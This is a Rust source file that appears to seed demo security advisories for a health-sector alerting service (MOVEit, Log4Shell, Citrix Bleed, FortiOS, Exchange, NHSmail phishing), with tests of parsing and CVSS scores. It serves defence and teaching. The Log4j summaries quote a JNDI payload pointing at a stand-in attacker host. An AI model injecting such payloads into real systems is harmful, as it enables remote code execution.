//! What the demo advisories say. Affected products and CVEs are written the way an analyst
//! fills in the form (one per line) and read with the form's own parsers, so the demo content
//! is checked, and its CVSS scores worked out, exactly as an analyst's would be.

use time::macros::date;

use crate::{
    alerts::{
        kev::KevEntry,
        model::{AdvisoryContent, Audience, Reference, Severity, Tlp},
        rules::content::{self, LineError},
    },
    organisations::domain::OrgType,
};

/// The parts of an advisory that are plain text.
struct Text {
    title: &'static str,
    severity: Severity,
    severity_reason: &'static str,
    tlp: Tlp,
    summary: &'static str,
    actively_exploited: bool,
    in_kev: bool,
    /// `vendor | product | versions | identifiers`, one per line.
    affected: &'static str,
    /// `CVE | CVSS vector`, one per line.
    cves: &'static str,
    remediation: &'static [&'static str],
    workarounds: &'static [&'static str],
    /// Link and title.
    references: &'static [(&'static str, &'static str)],
    /// Hours to acknowledge; `None` when no acknowledgement is asked for.
    ack_hours: Option<u32>,
}

fn lines<T>(
    title: &str,
    field: &str,
    parsed: Result<Vec<T>, Vec<LineError>>,
) -> anyhow::Result<Vec<T>> {
    parsed.map_err(|errors| {
        let problems: Vec<String> = errors.iter().map(ToString::to_string).collect();
        anyhow::anyhow!(
            "The demo advisory '{title}' has mistakes in its {field}: {}",
            problems.join("; ")
        )
    })
}

fn build(t: Text, audience: Audience) -> anyhow::Result<AdvisoryContent> {
    let steps = |list: &[&str]| list.iter().map(|s| (*s).to_owned()).collect();
    Ok(AdvisoryContent {
        title: t.title.to_owned(),
        severity: t.severity,
        severity_reason: t.severity_reason.to_owned(),
        tlp: t.tlp,
        summary: t.summary.to_owned(),
        actively_exploited: t.actively_exploited,
        in_kev: t.in_kev,
        affected: lines(
            t.title,
            "affected products",
            content::parse_affected(t.affected),
        )?,
        cves: lines(t.title, "CVEs", content::parse_cves(t.cves))?,
        remediation: steps(t.remediation),
        workarounds: steps(t.workarounds),
        references: t
            .references
            .iter()
            .map(|(url, title)| Reference {
                url: (*url).to_owned(),
                title: (*title).to_owned(),
            })
            .collect(),
        audience,
        ack_required: t.ack_hours.is_some(),
        ack_hours: t.ack_hours,
    })
}

/// Organisations that run their own data centres and internet-facing equipment.
fn larger_organisations() -> Audience {
    Audience::Types(vec![
        OrgType::NhsTrust,
        OrgType::IntegratedCareBoard,
        OrgType::Other,
    ])
}

/// Sent ahead of an OpenSSL release; withdrawn once the release showed it was less serious.
pub fn openssl() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: "OpenSSL 3.0: security fix rated critical due in the next release",
            severity: Severity::Critical,
            severity_reason: "The OpenSSL project has rated the coming fix critical, its highest \
                rating, and OpenSSL 3.0 is built into many web servers, appliances and \
                applications, often without the organisation knowing which version they run.",
            tlp: Tlp::Clear,
            summary: "The OpenSSL project has announced that OpenSSL 3.0.7 will fix a security \
                flaw it rates critical. Only the 3.0 series is affected: 1.1.1 and 1.0.2 are \
                not. Details will be published with the release. Use the time before then to \
                find every copy of OpenSSL 3.0 you run, including copies bundled inside \
                applications and appliances, so you can upgrade as soon as the fix is out.",
            actively_exploited: false,
            in_kev: false,
            affected: "OpenSSL | OpenSSL | >= 3.0.0, < 3.0.7 | \
                cpe:2.3:a:openssl:openssl:*:*:*:*:*:*:*:*",
            cves: "",
            remediation: &[
                "Find every copy of OpenSSL 3.0: on servers, in container images and inside \
                 applications that bring their own (Node.js 18, for example).",
                "Plan to upgrade each of them to OpenSSL 3.0.7 as soon as it is released, taking \
                 the update from your operating system vendor where OpenSSL came with the \
                 operating system.",
                "Ask the suppliers of appliances and products that contain OpenSSL 3.0 when they \
                 will ship the fix.",
            ],
            workarounds: &[],
            references: &[
                (
                    "https://www.openssl.org/news/secadv/",
                    "OpenSSL security advisories",
                ),
                (
                    "https://www.openssl.org/policies/general/security-policy.html",
                    "OpenSSL security policy: what the severity ratings mean",
                ),
            ],
            ack_hours: Some(48),
        },
        Audience::All,
    )
}

/// Why the OpenSSL advisory was withdrawn.
pub const OPENSSL_WITHDRAWN: &str = "OpenSSL 3.0.7 is out. The flaws it fixes (CVE-2022-3602 \
    and CVE-2022-3786, buffer overflows when checking the email addresses in certificates) were \
    rated high, not critical, on release: on common platforms they are likely to crash a \
    program rather than let an attacker run code. No response is needed; upgrade OpenSSL 3.0 \
    to 3.0.7 or later through routine patching.";

pub fn moveit() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: "Progress MOVEit Transfer: SQL injection exploited to steal files \
                (CVE-2023-34362)",
            severity: Severity::Critical,
            severity_reason: "Exploited before a fix existed by a criminal extortion group that \
                has stolen data from hundreds of organisations. No sign-in is needed, and MOVEit \
                Transfer is used to exchange patient and staff data with partners. Listed in \
                the CISA Known Exploited Vulnerabilities catalogue.",
            tlp: Tlp::Clear,
            summary: "The MOVEit Transfer web application puts what it receives from its web \
                interface into database commands without making it safe. Anyone who can reach \
                the web interface over HTTP or HTTPS can read and change the database. \
                Attackers have used this to install a web shell, often named human2.aspx, and \
                download the files stored on the server. Servers you run yourselves are \
                affected; Progress has patched MOVEit Cloud. Patch, then check whether data has \
                already been taken.",
            actively_exploited: true,
            in_kev: true,
            affected: "Progress | MOVEit Transfer | < 2021.0.6; >= 2021.1.0, < 2021.1.4; \
                >= 2022.0.0, < 2022.0.4; >= 2022.1.0, < 2022.1.5; >= 2023.0.0, < 2023.0.1 | \
                cpe:2.3:a:progress:moveit_transfer:*:*:*:*:*:*:*:*",
            cves: "CVE-2023-34362 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
            remediation: &[
                "Block inbound HTTP and HTTPS (ports 80 and 443) to MOVEit Transfer until the \
                 fix is installed. The web interface stops working meanwhile; SFTP and FTP \
                 transfers carry on.",
                "Install the fixed version for your release: 2021.0.6, 2021.1.4, 2022.0.4, \
                 2022.1.5 or 2023.0.1, or any later version.",
                "Look for signs of compromise: human2.aspx or other recently created .aspx or \
                 .cmdline files in the MOVEit wwwroot folder, user accounts you do not \
                 recognise, and large downloads to unfamiliar IP addresses in the logs.",
                "If you find any, delete the files and accounts, reset the credentials of every \
                 MOVEit service account, and report an incident to CareCERT: data may have \
                 been taken.",
            ],
            workarounds: &[],
            references: &[
                (
                    "https://community.progress.com/s/article/MOVEit-Transfer-Critical-Vulnerability-31May2023",
                    "Progress: MOVEit Transfer critical vulnerability",
                ),
                (
                    "https://www.cisa.gov/news-events/cybersecurity-advisories/aa23-158a",
                    "CISA and FBI: CL0P ransomware gang exploits CVE-2023-34362",
                ),
                (
                    "https://nvd.nist.gov/vuln/detail/CVE-2023-34362",
                    "NVD: CVE-2023-34362",
                ),
            ],
            ack_hours: Some(48),
        },
        Audience::All,
    )
}

const LOG4J_TITLE: &str = "Apache Log4j 2: remote code execution through logged text (Log4Shell)";
const LOG4J_REASON: &str = "Anyone who can get a chosen piece of text logged by an affected \
    application can run code on the server, and attackers are scanning for it everywhere. \
    Log4j is built into a great many Java applications, including clinical and back-office \
    products from suppliers, so most organisations run it somewhere.";
const LOG4J_FIND: &str = "Search servers for log4j-core JAR files, including copies nested \
    inside WAR and EAR archives, rather than relying on software lists.";
const LOG4J_SUPPLIERS: &str = "For products you buy, ask each supplier whether the product \
    contains Log4j 2 and when a fixed version will be available; record the answer and follow \
    their instructions.";
const LOG4J_EGRESS: &str = "Block outbound connections from servers to the internet except \
    where they are needed, so an attack cannot fetch its code.";
const LOG4J_REFERENCES: &[(&str, &str)] = &[
    (
        "https://logging.apache.org/log4j/2.x/security.html",
        "Apache Log4j security vulnerabilities",
    ),
    (
        "https://www.ncsc.gov.uk/information/log4j-vulnerability-what-everyone-needs-to-know",
        "NCSC: Log4j vulnerability, what everyone needs to know",
    ),
    (
        "https://www.cisa.gov/news-events/news/apache-log4j-vulnerability-guidance",
        "CISA: Apache Log4j vulnerability guidance",
    ),
];

/// The first version of the Log4j advisory, as first published.
pub fn log4j_first() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: LOG4J_TITLE,
            severity: Severity::Critical,
            severity_reason: LOG4J_REASON,
            tlp: Tlp::Clear,
            summary: "Log4j 2 expands lookups written inside the messages it logs. When a \
                message contains text such as ${jndi:ldap://attacker.example/a}, an affected \
                version contacts that server and can load and run the Java code it sends back. \
                Anything an outsider can get logged is enough: a user name, a search term, a \
                web browser's User-Agent header. Blocking outbound connections reduces the risk \
                but does not remove it. Ask suppliers too: many products ship their own copy of \
                Log4j.",
            actively_exploited: true,
            in_kev: true,
            affected: "Apache | Log4j | >= 2.0-beta9, < 2.15.0 | \
                cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:* \
                pkg:maven/org.apache.logging.log4j/log4j-core",
            cves: "CVE-2021-44228 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
            remediation: &[
                "Upgrade log4j-core to 2.15.0 or later in every application you build or \
                 control.",
                LOG4J_SUPPLIERS,
                LOG4J_FIND,
            ],
            workarounds: &[
                "On Log4j 2.10 and later, where you cannot upgrade yet, set the system property \
                 log4j2.formatMsgNoLookups=true (or the environment variable \
                 LOG4J_FORMAT_MSG_NO_LOOKUPS=true) and restart the application.",
                "Or remove the JndiLookup class from the JAR file: zip -q -d \
                 log4j-core-*.jar org/apache/logging/log4j/core/lookup/JndiLookup.class",
                LOG4J_EGRESS,
            ],
            references: LOG4J_REFERENCES,
            ack_hours: Some(48),
        },
        Audience::All,
    )
}

/// The second version of the Log4j advisory, after the first fix proved incomplete.
pub fn log4j_second() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: LOG4J_TITLE,
            severity: Severity::Critical,
            severity_reason: LOG4J_REASON,
            tlp: Tlp::Clear,
            summary: "Log4j 2 expands lookups written inside the messages it logs. When a \
                message contains text such as ${jndi:ldap://attacker.example/a}, an affected \
                version contacts that server and can load and run the Java code it sends back. \
                Anything an outsider can get logged is enough: a user name, a search term, a \
                web browser's User-Agent header. The first fix, 2.15.0, was incomplete \
                (CVE-2021-45046); two further flaws were then fixed in 2.17.0 (CVE-2021-45105, \
                a denial of service) and 2.17.1 (CVE-2021-44832, code execution by someone who \
                can change the logging configuration). Version 2.17.1 fixes all four.",
            actively_exploited: true,
            in_kev: true,
            affected: "Apache | Log4j | >= 2.0-beta7, < 2.3.2; >= 2.4, < 2.12.4; \
                >= 2.13.0, < 2.17.1 | \
                cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:* \
                pkg:maven/org.apache.logging.log4j/log4j-core",
            cves: "CVE-2021-44228 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H\n\
                CVE-2021-45046 | CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H\n\
                CVE-2021-45105 | CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H\n\
                CVE-2021-44832 | CVSS:3.1/AV:N/AC:H/PR:H/UI:N/S:U/C:H/I:H/A:H",
            remediation: &[
                "Upgrade log4j-core to 2.17.1 or later in every application you build or \
                 control; use 2.12.4 if the application must run on Java 7, or 2.3.2 on \
                 Java 6.",
                LOG4J_SUPPLIERS,
                LOG4J_FIND,
            ],
            workarounds: &[
                "Where you cannot upgrade yet, remove the JndiLookup class from the JAR file: \
                 zip -q -d log4j-core-*.jar \
                 org/apache/logging/log4j/core/lookup/JndiLookup.class. The \
                 formatMsgNoLookups setting in the first version of this advisory does not \
                 protect against CVE-2021-45046; do not rely on it.",
                LOG4J_EGRESS,
            ],
            references: LOG4J_REFERENCES,
            ack_hours: Some(48),
        },
        Audience::All,
    )
}

/// What changed in the second version of the Log4j advisory.
pub const LOG4J_REVISION: &str = "Log4j 2.15.0 did not fully fix the flaw (CVE-2021-45046), \
    and two more have been fixed since (CVE-2021-45105 and CVE-2021-44832). Affected versions \
    now run up to 2.17.0: upgrade to 2.17.1 (2.12.4 on Java 7, 2.3.2 on Java 6). The \
    formatMsgNoLookups workaround is withdrawn because it does not protect against \
    CVE-2021-45046.";

pub fn citrix_bleed() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: "Citrix NetScaler ADC and Gateway: session tokens leak to unauthenticated \
                attackers (Citrix Bleed, CVE-2023-4966)",
            severity: Severity::Critical,
            severity_reason: "Exploited at scale to take over signed-in sessions, which gets \
                past passwords and two-step verification alike, and used by ransomware groups \
                to get into networks. Many health organisations publish NetScaler Gateway to \
                the internet for remote access. Listed in the CISA Known Exploited \
                Vulnerabilities catalogue.",
            tlp: Tlp::Clear,
            summary: "A flaw in NetScaler ADC and NetScaler Gateway lets anyone on the internet \
                send a crafted request to an appliance configured as a Gateway (VPN virtual \
                server, ICA Proxy, CVPN or RDP Proxy) or as an AAA virtual server, and read \
                memory the appliance should never return. That memory holds the session tokens \
                of people who are signed in, and an attacker can replay them to take over those \
                sessions without a password or a two-step code. Upgrading stops new leaks but \
                does not end sessions already stolen: after upgrading, end every active and \
                persistent session.",
            actively_exploited: true,
            in_kev: true,
            affected: "Citrix | NetScaler ADC | >= 14.1, < 14.1-8.50; >= 13.1, < 13.1-49.15; \
                >= 13.0, < 13.0-92.19; >= 12.1, < 13.0 | \
                cpe:2.3:a:citrix:netscaler_application_delivery_controller:*:*:*:*:*:*:*:*\n\
                Citrix | NetScaler Gateway | >= 14.1, < 14.1-8.50; >= 13.1, < 13.1-49.15; \
                >= 13.0, < 13.0-92.19; >= 12.1, < 13.0 | \
                cpe:2.3:a:citrix:netscaler_gateway:*:*:*:*:*:*:*:*",
            cves: "CVE-2023-4966 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:L",
            remediation: &[
                "Upgrade every NetScaler ADC and NetScaler Gateway appliance to 14.1-8.50, \
                 13.1-49.15 or 13.0-92.19, or a later build of the same release. FIPS and \
                 NDcPP builds have their own fixed builds: 13.1-37.164 and 12.1-55.300.",
                "Straight after upgrading, end every existing session so that stolen tokens \
                 stop working: kill aaa session -all, kill icaconnection -all, kill rdp \
                 connection -all, kill pcoipConnection -all, then clear lb persistentSessions.",
                "Replace appliances on release 12.1: it is end of life and will not be fixed.",
                "Check the appliance logs for sessions used from more than one IP address or \
                 from places your staff do not work. Treat any as a compromise: report an \
                 incident to CareCERT and reset the credentials of the accounts concerned.",
            ],
            workarounds: &[
                "There is no configuration change that removes the flaw. If you cannot upgrade \
                 straight away, take Gateway and AAA virtual servers off the internet until \
                 you can.",
            ],
            references: &[
                (
                    "https://support.citrix.com/article/CTX579459",
                    "Citrix: NetScaler ADC and NetScaler Gateway security bulletin for \
                     CVE-2023-4966",
                ),
                (
                    "https://www.cisa.gov/guidance-addressing-citrix-netscaler-adc-and-gateway-vulnerability-cve-2023-4966-citrix-bleed",
                    "CISA: guidance on addressing Citrix Bleed",
                ),
                (
                    "https://nvd.nist.gov/vuln/detail/CVE-2023-4966",
                    "NVD: CVE-2023-4966",
                ),
            ],
            ack_hours: Some(48),
        },
        Audience::All,
    )
}

pub fn phishing() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: "Phishing emails posing as NHSmail password expiry notices",
            severity: Severity::Medium,
            severity_reason: "Large numbers of staff are receiving these, and a stolen mail \
                account is used to send the same email on to colleagues and partners from a \
                trusted address. There is no software flaw to fix: what matters is that staff \
                recognise the email and that accounts whose details were entered are secured \
                quickly.",
            tlp: Tlp::Green,
            summary: "Staff in several regions have received emails saying their NHSmail \
                password expires today, with a button to keep their current password. The \
                button opens a convincing copy of the NHSmail sign-in page on a newly \
                registered web address. It asks for the email address, the password and then \
                the two-step verification code, and passes each to the attacker at once, so \
                the attacker can sign in while the code is still valid. The emails are sent \
                from genuine accounts at other organisations that were taken over this way, so \
                they pass the usual sender checks.",
            actively_exploited: true,
            in_kev: false,
            affected: "",
            cves: "",
            remediation: &[
                "Warn staff about this email. Tell them not to follow links in emails about \
                 their password: to check, they should go to NHSmail by typing its address or \
                 using a bookmark.",
                "Ask staff to forward suspicious emails to spamreports@nhs.net, the NHSmail \
                 address for spam and phishing, and then delete them.",
                "For each person who entered their details: reset the password, sign them out \
                 of every session, remove any inbox rules and two-step methods they did not \
                 set up themselves, and report an incident to CareCERT.",
                "Do not make everyone change their password. Only the accounts whose details \
                 were entered need a reset; regular forced changes lead to weaker, reused \
                 passwords, and the NCSC no longer advises them.",
                "Make sure every account has two-step verification turned on: it still stops \
                 an attacker who has only the password from signing in later. For \
                 administrators first, prefer methods a fake sign-in page cannot relay, such as \
                 security keys or passkeys.",
            ],
            workarounds: &[],
            references: &[
                (
                    "https://www.ncsc.gov.uk/guidance/phishing",
                    "NCSC: Phishing attacks, defending your organisation",
                ),
                (
                    "https://www.ncsc.gov.uk/collection/passwords/updating-your-approach",
                    "NCSC: Password administration for system owners",
                ),
                (
                    "https://www.ncsc.gov.uk/guidance/multi-factor-authentication-online-services",
                    "NCSC: Multi-factor authentication for online services",
                ),
            ],
            ack_hours: None,
        },
        Audience::All,
    )
}

pub fn fortios() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: "Fortinet FortiOS and FortiProxy SSL VPN: out-of-bounds write allows remote \
                code execution (CVE-2024-21762)",
            severity: Severity::Critical,
            severity_reason: "Anyone on the internet can run code on the firewall at the edge \
                of the network, without signing in. Fortinet says it is potentially being \
                exploited, and it is in the CISA Known Exploited Vulnerabilities catalogue. Our \
                external scan found FortiGate SSL VPN portals reachable from the internet at \
                organisations in this audience, which is why this advisory is TLP:AMBER.",
            tlp: Tlp::Amber,
            summary: "An out-of-bounds write in the SSL VPN service of FortiOS and FortiProxy \
                (sslvpnd) lets a remote attacker run code or commands on the device by sending \
                crafted HTTP requests. Only devices with SSL VPN enabled are exposed, but that \
                is how most organisations give staff remote access. A compromised firewall \
                gives an attacker a foothold inside the network that most monitoring does not \
                see.",
            actively_exploited: true,
            in_kev: true,
            affected: "Fortinet | FortiOS | >= 7.4.0, <= 7.4.2; >= 7.2.0, <= 7.2.6; \
                >= 7.0.0, <= 7.0.13; >= 6.4.0, <= 6.4.14; >= 6.2.0, <= 6.2.15; \
                >= 6.0.0, < 6.2.0 | cpe:2.3:o:fortinet:fortios:*:*:*:*:*:*:*:*\n\
                Fortinet | FortiProxy | >= 7.4.0, <= 7.4.2; >= 7.2.0, <= 7.2.8; \
                >= 7.0.0, <= 7.0.14; >= 2.0.0, <= 2.0.13; >= 1.0.0, < 2.0.0 | \
                cpe:2.3:a:fortinet:fortiproxy:*:*:*:*:*:*:*:*",
            cves: "CVE-2024-21762 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
            remediation: &[
                "Upgrade FortiOS to 7.4.3, 7.2.7, 7.0.14, 6.4.15 or 6.2.16, or later. FortiOS \
                 6.0 will not be fixed: move those devices to a supported release.",
                "Upgrade FortiProxy to 7.4.3, 7.2.9, 7.0.15 or 2.0.14, or later; move devices \
                 on FortiProxy 1.x to a supported release.",
                "Before and after upgrading, check the device for signs of compromise using \
                 Fortinet's guidance, and report anything you find to CareCERT as an incident.",
            ],
            workarounds: &[
                "Until you can upgrade, turn off SSL VPN. Turning off web mode alone does not \
                 protect the device.",
            ],
            references: &[
                (
                    "https://www.fortiguard.com/psirt/FG-IR-24-015",
                    "Fortinet PSIRT: FG-IR-24-015, out-of-bounds write in sslvpnd",
                ),
                (
                    "https://nvd.nist.gov/vuln/detail/CVE-2024-21762",
                    "NVD: CVE-2024-21762",
                ),
                (
                    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
                    "CISA Known Exploited Vulnerabilities catalogue",
                ),
            ],
            ack_hours: Some(48),
        },
        larger_organisations(),
    )
}

/// Written by an analyst and waiting for a second one to review and publish it.
pub fn exchange() -> anyhow::Result<AdvisoryContent> {
    build(
        Text {
            title: "Microsoft Exchange Server: relayed NTLM credentials let attackers act as \
                users (CVE-2024-21410)",
            severity: Severity::Critical,
            severity_reason: "Exploited in the wild and listed in the CISA Known Exploited \
                Vulnerabilities catalogue. An attacker who captures a user's NTLM credentials \
                can act as that user on Exchange with nothing more from them. Several trusts \
                still run Exchange on their own servers for local mailboxes and mail relays.",
            tlp: Tlp::Clear,
            summary: "Exchange Server accepts NTLM authentication without Extended Protection \
                for Authentication unless it has been turned on. An attacker who gets an \
                Outlook client, or any other client, to send its NTLM credentials to them can \
                relay those credentials to Exchange and act as the user. Exchange Server 2019 \
                Cumulative Update 14 turns Extended Protection on by default; older builds and \
                Exchange Server 2016 need it turned on by hand.",
            actively_exploited: true,
            in_kev: true,
            affected: "Microsoft | Exchange Server | >= 15.1.0, < 15.2.1544.4 | \
                cpe:2.3:a:microsoft:exchange_server:*:*:*:*:*:*:*:*",
            cves: "CVE-2024-21410 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
            remediation: &[
                "Install Exchange Server 2019 Cumulative Update 14 or later, which turns on \
                 Extended Protection during setup.",
                "On Exchange Server 2016 Cumulative Update 23, and on 2019 servers that cannot \
                 take the update yet, turn on Extended Protection with Microsoft's \
                 ExchangeExtendedProtectionManagement.ps1 script, after checking its \
                 prerequisites.",
                "Before turning it on, check that load balancers and proxies in front of \
                 Exchange do not offload TLS: Extended Protection does not work with TLS \
                 offloading.",
            ],
            workarounds: &[],
            references: &[
                (
                    "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2024-21410",
                    "Microsoft: CVE-2024-21410 security update guide",
                ),
                (
                    "https://learn.microsoft.com/en-us/exchange/plan-and-deploy/post-installation-tasks/security-best-practices/exchange-extended-protection",
                    "Microsoft: configure Windows Extended Protection in Exchange Server",
                ),
                (
                    "https://nvd.nist.gov/vuln/detail/CVE-2024-21410",
                    "NVD: CVE-2024-21410",
                ),
            ],
            ack_hours: Some(48),
        },
        larger_organisations(),
    )
}

/// A catalogue entry as the CISA KEV import reads it; the demo draft is made from it.
pub fn kev_pan_os() -> KevEntry {
    KevEntry {
        cve_id: "CVE-2024-3400".to_owned(),
        vendor: "Palo Alto Networks".to_owned(),
        product: "PAN-OS".to_owned(),
        name: "Command injection in the GlobalProtect feature".to_owned(),
        date_added: date!(2024 - 04 - 12),
        description: "A command injection flaw in the GlobalProtect feature of PAN-OS lets an \
            attacker who has not signed in run commands with root privileges on the firewall, \
            on the PAN-OS versions and configurations the vendor lists."
            .to_owned(),
        required_action: "Apply the vendor's fixes or mitigations, or stop using the product \
            if none are available."
            .to_owned(),
        due_date: Some(date!(2024 - 04 - 19)),
        ransomware: false,
        notes: vec!["https://security.paloaltonetworks.com/CVE-2024-3400".to_owned()],
        cwes: vec!["CWE-77".to_owned()],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alerts::{kev, rules::cvss};

    fn all() -> Vec<AdvisoryContent> {
        [
            openssl(),
            moveit(),
            log4j_first(),
            log4j_second(),
            citrix_bleed(),
            phishing(),
            fortios(),
            exchange(),
        ]
        .into_iter()
        .map(|c| c.expect("the demo advisory reads"))
        .collect()
    }

    #[test]
    fn every_demo_advisory_is_complete_enough_to_publish() {
        for c in all() {
            assert_eq!(content::check(&c), vec![], "{}", c.title);
        }
        assert!(content::check(&kev::to_draft(&kev_pan_os())).is_empty());
    }

    #[test]
    fn cvss_scores_are_those_the_vendors_and_nvd_publish() {
        let score = |c: &AdvisoryContent, id: &str| {
            c.cves
                .iter()
                .find(|v| v.id == id)
                .and_then(|v| v.cvss_score)
                .unwrap_or_else(|| panic!("{id} has a score"))
        };
        let log4j = log4j_second().unwrap();
        assert_eq!(score(&citrix_bleed().unwrap(), "CVE-2023-4966"), 9.4);
        assert_eq!(score(&log4j, "CVE-2021-44228"), 10.0);
        assert_eq!(score(&log4j, "CVE-2021-45046"), 9.0);
        assert_eq!(score(&log4j, "CVE-2021-45105"), 5.9);
        assert_eq!(score(&log4j, "CVE-2021-44832"), 6.6);
        assert_eq!(score(&moveit().unwrap(), "CVE-2023-34362"), 9.8);
        assert_eq!(score(&fortios().unwrap(), "CVE-2024-21762"), 9.8);
        assert_eq!(score(&exchange().unwrap(), "CVE-2024-21410"), 9.8);
        for c in all() {
            for v in &c.cves {
                let vector = v.cvss_vector.as_deref().expect("a vector");
                assert_eq!(cvss::base_score(vector).ok(), v.cvss_score, "{}", v.id);
            }
        }
    }

    #[test]
    fn the_revision_moves_the_affected_versions_to_the_later_fixes() {
        use crate::alerts::rules::versions::any_contains;
        let first = &log4j_first().unwrap().affected[0].versions;
        let second = &log4j_second().unwrap().affected[0].versions;
        for (version, before, after) in [
            ("2.14.1", true, true),
            ("2.16.0", false, true),
            ("2.12.2", true, true),
            ("2.12.4", true, false),
            ("2.17.1", false, false),
            ("1.2.17", false, false),
        ] {
            assert_eq!(any_contains(first, version), before, "{version}, first");
            assert_eq!(any_contains(second, version), after, "{version}, second");
        }
    }

    #[test]
    fn only_the_fortinet_advisory_is_amber_and_the_phishing_one_asks_for_no_deadline() {
        let amber: Vec<String> = all()
            .into_iter()
            .filter(|c| c.tlp == Tlp::Amber)
            .map(|c| c.title)
            .collect();
        assert_eq!(amber.len(), 1);
        assert!(amber[0].starts_with("Fortinet"));
        let p = phishing().unwrap();
        assert!(p.cves.is_empty() && p.affected.is_empty() && !p.ack_required);
    }
}
